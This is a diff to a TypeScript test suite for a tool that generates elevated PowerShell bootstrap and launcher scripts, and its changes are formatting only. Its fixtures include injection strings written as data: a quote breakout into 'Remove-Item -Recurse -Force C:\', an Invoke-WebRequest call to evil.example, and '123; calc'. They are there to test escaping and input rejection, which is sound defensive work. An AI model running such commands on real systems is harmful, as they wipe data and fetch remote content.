@@ -34,15 +34,11 @@ function expectFixture(name: string, text: string): void {
   expect(`${text}\n`).toBe(readFileSync(path, 'utf8'))
 }
 
-const HOSTILE = [
-  `'; Remove-Item -Recurse -Force C:\\ ; '`,
-  `"$(Invoke-WebRequest http://evil.example)"`,
-  '`n`r @\' here \'@',
-  '# 修复 WSL 网络 — 中文说明',
-].join('\n')
+const HOSTILE = [`'; Remove-Item -Recurse -Force C:\\ ; '`, `"$(Invoke-WebRequest http://evil.example)"`, "`n`r @' here '@", '# 修复 WSL 网络 — 中文说明'].join(
+  '\n',
+)
 
-const plan = (scriptText: string) =>
-  buildElevationPlan({ scriptText, pipeName: PIPE, nonce: NONCE, powershellPath: POWERSHELL, connectTimeoutMs: 10_000 })
+const plan = (scriptText: string) => buildElevationPlan({ scriptText, pipeName: PIPE, nonce: NONCE, powershellPath: POWERSHELL, connectTimeoutMs: 10_000 })
 
 describe('bootstrap and launcher templates', () => {
   it('generates exactly the pinned bootstrap', () => {
@@ -66,7 +62,7 @@ describe('bootstrap and launcher templates', () => {
     expectFixture('launcher.ps1.txt', launcherScript({ powershellPath: POWERSHELL, bootstrapBase64: BOOTSTRAP_B64 }))
   })
 
-  it('keeps all three scripts parseable, 5.1-compatible and ASCII (PowerShell\'s own parser)', () => {
+  it("keeps all three scripts parseable, 5.1-compatible and ASCII (PowerShell's own parser)", () => {
     const { bootstrap, launcher, payload } = plan(HOSTILE)
     const owned = launcherScript({ powershellPath: POWERSHELL, bootstrapBase64: BOOTSTRAP_B64, ownerWindowHandle: '197390' })
     const texts = { bootstrap, launcher, payload, owned }
@@ -89,7 +85,9 @@ describe('bootstrap and launcher templates', () => {
 
   it('refuses to build a plan whose elevated command line would exceed the limit', () => {
     const long = `C:\\${'x'.repeat(300)}\\powershell.exe`
-    expect(() => buildElevationPlan({ scriptText: 'x', pipeName: PIPE, nonce: NONCE, powershellPath: long, connectTimeoutMs: 10_000 })).toThrow(/ShellExecuteEx/)
+    expect(() => buildElevationPlan({ scriptText: 'x', pipeName: PIPE, nonce: NONCE, powershellPath: long, connectTimeoutMs: 10_000 })).toThrow(
+      /ShellExecuteEx/,
+    )
   })
 
   it('never puts script content in either command line, only its hash', () => {
@@ -171,7 +169,9 @@ describe('bootstrap and launcher templates', () => {
     for (const bad of ['', '0', '012', '-5', '1e3', '0x10', '12 34', '123; calc', '9223372036854775808', '１２３']) {
       expect(() => launcherScript({ powershellPath: POWERSHELL, bootstrapBase64: BOOTSTRAP_B64, ownerWindowHandle: bad })).toThrow(/owner window handle/)
     }
-    expect(() => buildElevationPlan({ scriptText: 'x', pipeName: PIPE, nonce: NONCE, powershellPath: POWERSHELL, connectTimeoutMs: 1000, ownerWindowHandle: 'abc' })).toThrow(/owner window handle/)
+    expect(() =>
+      buildElevationPlan({ scriptText: 'x', pipeName: PIPE, nonce: NONCE, powershellPath: POWERSHELL, connectTimeoutMs: 1000, ownerWindowHandle: 'abc' }),
+    ).toThrow(/owner window handle/)
   })
 
   it('refuses tokens that could break out of their quotes', () => {
